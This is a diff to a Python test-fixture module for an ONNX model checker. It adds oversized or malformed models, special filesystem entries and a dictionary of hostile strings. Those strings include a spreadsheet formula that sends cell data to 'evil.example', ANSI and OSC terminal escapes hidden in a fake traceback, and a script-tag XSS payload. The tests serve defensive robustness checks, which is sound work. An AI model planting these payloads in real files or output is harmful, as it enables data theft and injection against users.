@@ -588,6 +588,44 @@ proto("long_chain", 0, '"norms"', "20000 Relu nodes in a row", lambda: model(
     [helper.make_node("Relu", [f"t{i}" if i else "x"], [f"t{i + 1}" if i < 19999 else "y"]) for i in range(20000)]))
 
 
+# ---- ranks and attributes numpy or onnxruntime would choke on ------------------------------
+
+proto("rank_100_input", 4, "tensor 'x' has rank 100 (limit 32)", "an input of rank 100 (numpy stops at 64 dimensions)",
+      lambda: model([helper.make_node("Relu", ["x"], ["y"], name="relu")], inputs=[("x", [1] * 100)]))
+proto("avgpool_pads_over_kernel", 4, "its pads [2, 2, 2, 2] are not all smaller than its kernel [2, 2]",
+      "AveragePool with pads >= kernel (onnxruntime refuses it with a coloured multi-line log)",
+      lambda: model([helper.make_node("AveragePool", ["x"], ["p"], name="pool", kernel_shape=[2, 2], pads=[2, 2, 2, 2]),
+                     helper.make_node("Relu", ["p"], ["y"], name="relu")], inputs=[("x", [1, 1, 4, 4])]))
+proto("wide_sum_over_limit", 4, "has 5000 inputs (limit 4096)", "a Sum of 5000 operands (time grows with them)",
+      lambda: wide_sum(5000))
+proto("many_io_over_limit", 4, "the graph has 3000 inputs and 3000 outputs (limit 4096 in all)",
+      "3000 inputs and outputs (onnxruntime's session build grows faster than linearly with them)", lambda: many_io(3000))
+
+#: model-supplied strings that try to inject: a spreadsheet formula, a fake traceback line, ANSI
+#: colour, an OSC sequence setting the terminal title, HTML (tests/test_hostile_io.py)
+INJECTIONS = {"producer": '=HYPERLINK("http://evil.example/?"&A1,"click")',
+              "node": "tanh\nTraceback (most recent call last):\n  fake\x1b[31mRED\x1b]0;pwned\x07",
+              "doc": "<script>alert(1)</script>"}
+
+
+def injecting() -> onnx.ModelProto:
+    """The MLP with a Tanh (refused: its name reaches the error message) named, and a producer set,
+    with the :data:`INJECTIONS` strings."""
+    m = mlp()
+    m.graph.node[1].op_type, m.graph.node[1].name = "Tanh", INJECTIONS["node"]
+    m.producer_name, m.producer_version = INJECTIONS["producer"], INJECTIONS["doc"]
+    return m
+
+
+def special_entries(folder: Path) -> dict[str, str]:
+    """``*.onnx`` entries in ``folder`` that are not regular files, with the reason an audit must
+    report for each: a FIFO (reading it would block) and a dangling symlink (POSIX only)."""
+    folder.mkdir(parents=True, exist_ok=True)
+    os.mkfifo(folder / "fifo.onnx")
+    os.symlink(folder / "gone.onnx", folder / "dangling.onnx")
+    return {"fifo.onnx": "not a regular file (a FIFO)", "dangling.onnx": "a dangling symbolic link"}
+
+
 # ---- scale: built at any size n (tests/test_hostile_io.py, tools/scaling.py) -----------------
 
 
